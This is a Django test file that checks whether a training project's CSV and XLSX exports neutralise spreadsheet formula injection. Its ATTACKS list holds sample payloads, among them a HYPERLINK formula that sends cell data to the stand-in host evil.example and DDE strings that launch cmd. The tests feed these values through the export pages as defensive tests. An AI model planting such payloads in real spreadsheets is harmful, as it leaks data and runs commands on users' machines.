"""Every CSV and XLSX the project hands out neutralises values that start like a formula (OWASP
"CSV injection"): a participant, business or chamber typing "=HYPERLINK(...)" into a name gets a
text cell in the coordinator's spreadsheet, never a live formula. Each export is attacked through
the page a coordinator downloads, and read back with the csv module and openpyxl."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.tabular import CsvWriter, XlsxWriter, safe_sheet_title
from courses.models import Attendance
from demand.exports import statistics_csv
from demand.selectors.statistics import Cell, Period, Table
from tests.courses.planning_fixtures import make_plan
from tests.factories import (
    BusinessFactory,
    CourseRunFactory,
    EnrolmentFactory,
    EquipmentFactory,
    SessionFactory,
    TraineeProfileFactory,
    coordinator,
    trainee,
)
from tests.timeutils import day_at
from workshops.models import EquipmentReservation

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(content: bytes, delimiter=";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def _xlsx_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return book, [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes, *expected: str):
    book, cells = _xlsx_cells(content)
    assert all(cell.data_type != "f" for cell in cells), "a cell is a live formula"
    values = {cell.value for cell in cells}
    for attack in expected:
        assert "'" + attack in values, attack
        assert next(c for c in cells if c.value == "'" + attack).data_type == "s"
    return book


# --- the writer itself ----------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_writer_quotes_every_formula_start(attack):
    writer = CsvWriter()
    writer.writerow(["name", attack, -5, 2.5, "Müller-Lüdenscheidt", "a=b"])
    row = _csv_rows(writer.to_bytes())[0]
    assert row == ["name", "'" + attack, "-5", "2.5", "Müller-Lüdenscheidt", "a=b"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_xlsx_writer_never_writes_a_formula(attack):
    book = XlsxWriter()
    sheet = book.add_sheet(attack)
    sheet.append(["=1+1", attack, -5, 2.5], bold=True)
    read = _assert_no_formula(book.to_bytes(), "=1+1", attack)
    title = read.sheetnames[0]
    assert not title.startswith(("=", "+", "-", "@", "'")), title
    row = next(read.active.iter_rows(values_only=True))
    assert row[2:] == (-5, 2.5), "numbers stay numbers"


def test_sheet_titles_are_cleaned_for_excel():
    assert safe_sheet_title("=HYPERLINK(x)") == "HYPERLINK(x)"
    assert safe_sheet_title("a/b:c*d?[e]") == "a b c d  e"
    assert safe_sheet_title("'=-+@") == "Sheet"
    assert len(safe_sheet_title("x" * 80)) == 31


# --- every export, attacked through the page --------------------------------------------------


@pytest.mark.django_db
def test_participant_lists_neutralise_names(client):
    run = CourseRunFactory(course__title="=Kurs")
    evil = trainee(
        user__first_name=ATTACKS[0],
        user__last_name=ATTACKS[3],
        business=BusinessFactory(name=ATTACKS[1]),
    )
    EnrolmentFactory(run=run, participant=evil)
    client.force_login(coordinator(school=run.school))
    rows = _csv_rows(client.get(reverse("courses:export_participants_csv", args=[run.pk])).content)
    assert rows[1][1:3] == ["'" + ATTACKS[3], "'" + ATTACKS[0]]
    assert rows[1][4] == "'" + ATTACKS[1]
    xlsx = client.get(reverse("courses:export_participants_xlsx", args=[run.pk])).content
    _assert_no_formula(xlsx, ATTACKS[0], ATTACKS[1], ATTACKS[3], "=Kurs")


@pytest.mark.django_db
def test_uelu_report_neutralises_chamber_data(client):
    run = CourseRunFactory(capacity=10, min_participants=0)
    session = SessionFactory(run=run, start=day_at(21, 8), end=day_at(21, 16))
    profile = TraineeProfileFactory(
        lehrlingsrolle_number=ATTACKS[2],
        occupation=ATTACKS[4],
        business=BusinessFactory(name=ATTACKS[0], member_number="@1"),
    )
    enrolment = EnrolmentFactory(run=run, participant=profile.user)
    Attendance.objects.create(
        enrolment=enrolment, session=session, status="present", minutes=60, reason="=A1"
    )
    client.force_login(coordinator(school=run.school))
    rows = _csv_rows(client.get(f"/staff/reports/runs/{run.pk}/uelu.csv").content)
    values = set(rows[1])
    assert {"'" + ATTACKS[2], "'" + ATTACKS[4], "'" + ATTACKS[0], "'@1"} <= values
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
    xlsx = client.get(f"/staff/reports/runs/{run.pk}/uelu.xlsx").content
    _assert_no_formula(xlsx, ATTACKS[0], ATTACKS[2], "@1")


@pytest.mark.django_db
def test_utilisation_export_neutralises_equipment_names(client):
    plan = make_plan(units=1)
    item = EquipmentFactory(
        workshop=plan.workshop, type=plan.printer, inventory_number="=INV", name=ATTACKS[0]
    )
    start = timezone.make_aware(dt.datetime(2031, 3, 1, 8))
    EquipmentReservation.objects.create(
        equipment=item, start=start, end=start + dt.timedelta(hours=2)
    )
    client.force_login(plan.coordinator)
    url = reverse("workshops:utilisation") + "?start=2031-03-01&end=2031-03-07"
    rows = _csv_rows(client.get(url + "&format=csv").content)
    assert "'=INV " + ATTACKS[0] in [row[1] for row in rows]
    _assert_no_formula(client.get(url + "&format=xlsx").content, "=INV " + ATTACKS[0])


def test_statistics_open_data_neutralises_group_names():
    table = Table(key="by_business", title="t", unit="Personen", cells=[Cell(ATTACKS[1], 7)])
    period = Period(dt.date(2031, 1, 1), dt.date(2031, 12, 31))
    rows = _csv_rows(statistics_csv([table], period), delimiter=",")
    assert rows[1][:3] == ["by_business", "'" + ATTACKS[1], "7"]
